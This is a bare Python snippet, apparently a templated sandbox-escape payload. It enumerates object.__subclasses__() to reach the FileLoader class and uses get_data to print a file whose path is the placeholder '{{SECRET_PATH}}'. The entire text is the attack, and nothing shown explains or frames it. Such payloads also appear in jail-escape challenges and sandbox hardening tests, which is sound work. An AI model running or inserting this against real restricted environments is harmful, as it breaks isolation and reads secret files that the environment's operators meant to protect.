for c in object.__subclasses__():
    if c.__name__ == "FileLoader":
        print(c.get_data(None, "{{SECRET_PATH}}"))
